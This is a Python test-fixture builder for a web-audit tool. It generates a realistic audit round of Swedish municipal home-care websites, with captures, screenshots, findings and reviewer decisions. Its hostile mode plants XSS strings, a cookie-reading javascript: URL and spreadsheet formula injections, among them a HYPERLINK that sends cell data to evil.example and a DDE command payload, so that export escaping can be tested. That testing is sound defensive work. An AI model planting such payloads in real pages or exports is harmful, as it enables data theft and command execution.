"""A round with realistic data, without a browser: for export tests and bench/evidence.py.

Each site gets a finished crawl run with a crawl log, captures with real files (raw HTML,
text, a full-page PNG screenshot), an evaluation with findings (half of them with a highlighted
crop PNG, as the matcher makes them) and flags with negative evidence, and decisions for most
items. `hostile=True` plants the nastiest page content we know in the first site.
"""

from __future__ import annotations

import io
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from PIL import Image, ImageDraw

from webaudit.evidence import StoredObject
from webaudit.municipalities import load_registry
from webaudit.store.captures import add_capture, log_crawl
from webaudit.store.decisions import DecisionInput, record_decision
from webaudit.store.files import record_file
from webaudit.store.findings import save_evaluation
from webaudit.store.rounds import register_municipalities
from webaudit.store.tables import Capture, CrawlRun, Evaluation, Finding, ItemFlag
from webaudit.workspace import Workspace

REVIEWER = "anna"
HOSTILE_TITLE = "<script>alert('titel')</script><img src=x onerror=alert(1)>"
HOSTILE_QUOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "<script>document.body.innerHTML='hacked'</script> Räkna ut din avgift",
]
HOSTILE_URL = "javascript:alert(document.cookie)"
ENORMOUS = "Avgift för hemtjänst. " * 20_000  # ~440 000 characters


@dataclass(frozen=True)
class BuiltRound:
    round_id: str
    codes: list[str]


def _png(width: int, height: int, seed: int, label: str) -> bytes:
    """A page-like screenshot: header bar, text lines, a highlighted box. Cheap to encode."""
    rng = random.Random(seed)
    image = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, width, 90), fill=(31, 78, 90))
    draw.text((40, 35), label, fill="white")
    y = 130
    while y < height - 40:
        line = rng.randint(300, width - 200)
        draw.rectangle((120, y, 120 + line, y + 10), fill=(180, 180, 180))
        y += rng.choice((22, 22, 22, 48))
    draw.rectangle((110, 400, 900, 470), outline=(230, 150, 0), width=4)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", compress_level=1)
    return buffer.getvalue()


def build_round(
    workspace: Workspace,
    sites: int = 3,
    *,
    pages_per_site: int = 8,
    hostile: bool = False,
    seed: int = 7,
    decided_share: float = 0.85,
) -> BuiltRound:
    rng = random.Random(seed)
    round_id = workspace.ensure_round()
    checklist = workspace.checklist
    rows = load_registry().municipalities[:sites]
    with workspace.store.session(write=True) as session:
        register_municipalities(session, round_id, rows)
    evidence = workspace.evidence
    started = datetime(2025, 9, 2, 8, 0, tzinfo=UTC)
    for number, row in enumerate(rows):
        nasty = hostile and number == 0
        files: list[StoredObject] = []

        def put(data: bytes, media_type: str, files: list[StoredObject] = files) -> StoredObject:
            stored = evidence.put(data, media_type)
            files.append(stored)
            return stored

        with workspace.store.session(write=True) as session:
            run = CrawlRun(
                round_id=round_id,
                municipality_code=row.code,
                start_url=row.website + "/",
                started_at=started + timedelta(minutes=number),
                finished_at=started + timedelta(minutes=number + 3),
                status="ok",
                pages=pages_per_site,
                stop_reason="inga fler relevanta länkar",
            )
            if number == 1:  # the second site's crawl made a web archive (bytes stand in)
                wacz = put(b"PK\x03\x04 webaudit test archive", "application/wacz")
                run.wacz_path, run.wacz_sha256 = wacz.path, wacz.sha256
            session.add(run)
            session.flush()
            assert run.id is not None
            captures: list[Capture] = []
            for page in range(pages_per_site):
                url = f"{row.website}/omsorg/hemtjanst/sida-{page}/"
                title = f"Hemtjänst sida {page} – {row.name}"
                if nasty and page == 1:
                    url, title = HOSTILE_URL, HOSTILE_TITLE
                html = f"<html><title>{title}</title><body>Sida {page}</body></html>".encode()
                raw = put(html, "text/html")
                text = put(f"Sida {page} {row.name}".encode(), "text/plain")
                height = rng.choice((1400, 2200, 3600))
                shot = put(_png(1280, height, seed + number * 100 + page, title[:60]), "image/png")
                capture = add_capture(
                    session,
                    Capture(
                        crawl_run_id=run.id,
                        round_id=round_id,
                        municipality_code=row.code,
                        url=url,
                        final_url=url,
                        status=200,
                        content_type="text/html; charset=utf-8",
                        title=title,
                        captured_at=started + timedelta(minutes=number, seconds=page * 7),
                        depth=min(page, 3),
                        raw_sha256=raw.sha256,
                        raw_path=raw.path,
                        html_sha256=raw.sha256,
                        html_path=raw.path,
                        text_sha256=text.sha256,
                        text_path=text.path,
                        screenshot_sha256=shot.sha256,
                        screenshot_path=shot.path,
                    ),
                    [],
                )
                captures.append(capture)
                log_crawl(session, run.id, "visit", url, status=200, depth=page)
            visited = [c.url for c in captures]
            # Odd sites searched the site's own search; even ones had none (the crawl says so).
            searches: list[dict[str, object]] = (
                [{"url": f"{row.website}/sok?q=hemtjanst", "query": "hemtjänst", "results": 4}]
                if number % 2
                else [{"url": None, "note": "ingen sökfunktion hittades på startsidan"}]
            )
            findings: list[Finding] = []
            flags: list[ItemFlag] = []
            for index, item in enumerate(checklist.items):
                result = rng.choice(("pass", "pass", "fail", "review"))
                if nasty and index < len(HOSTILE_QUOTES):
                    result = "pass"  # so every hostile quote reaches the exports
                refs: list[int] = []
                if result != "fail":
                    for capture in rng.sample(captures, k=min(2, len(captures))):
                        quote = f"{item.title.sv}: så här gör du i {row.name}."
                        if nasty:
                            quote = HOSTILE_QUOTES[index % len(HOSTILE_QUOTES)]
                            if index == 0:
                                quote = ENORMOUS
                        crop = None
                        if rng.random() < 0.5:
                            crop = put(_png(640, 180, index, item.title.sv), "image/png")
                        assert capture.id is not None
                        refs.append(len(findings))
                        findings.append(
                            Finding(
                                evaluation_id=0,
                                capture_id=capture.id,
                                item_id=item.id,
                                result=result,
                                confidence=0.9,
                                quote=quote,
                                location="main > p:nth-of-type(2)",
                                crop_sha256=crop.sha256 if crop else None,
                                crop_path=crop.path if crop else None,
                                matcher_version="test",
                                checklist_id=checklist.id,
                                checklist_version=checklist.version,
                            )
                        )
                flags.append(
                    ItemFlag(
                        evaluation_id=0,
                        round_id=round_id,
                        municipality_code=row.code,
                        item_id=item.id,
                        result=result,
                        confidence=0.9 if result != "review" else 0.5,
                        finding_ids=refs,
                        reason="test",
                        negative_evidence={
                            "pages_visited": len(visited),
                            "visited": visited,
                            "searches": searches,
                            "crawl_status": "ok",
                        }
                        if result != "pass"
                        else {},
                    )
                )
            for stored in {f.sha256: f for f in files}.values():
                record_file(session, stored)
            positions = {flag.item_id: list(flag.finding_ids) for flag in flags}
            save_evaluation(
                session,
                Evaluation(
                    round_id=round_id,
                    municipality_code=row.code,
                    crawl_run_id=run.id,
                    matcher_version="test",
                    checklist_id=checklist.id,
                    checklist_version=checklist.version,
                ),
                findings,
                flags,
            )
            for flag in flags:
                if flag.result == "review" or rng.random() > decided_share:
                    continue
                record_decision(
                    session,
                    DecisionInput(
                        round_id=round_id,
                        municipality_code=row.code,
                        item_id=flag.item_id,
                        value="yes" if flag.result == "pass" else "no",
                        reviewer=REVIEWER,
                        checklist_id=checklist.id,
                        checklist_version=checklist.version,
                        note="<b>anteckning</b>" if nasty else None,
                        evidence_capture_ids=tuple(
                            findings[i].capture_id for i in positions[flag.item_id][:1]
                        ),
                    ),
                    expected_revision=0,
                )
    return BuiltRound(round_id, [row.code for row in rows])
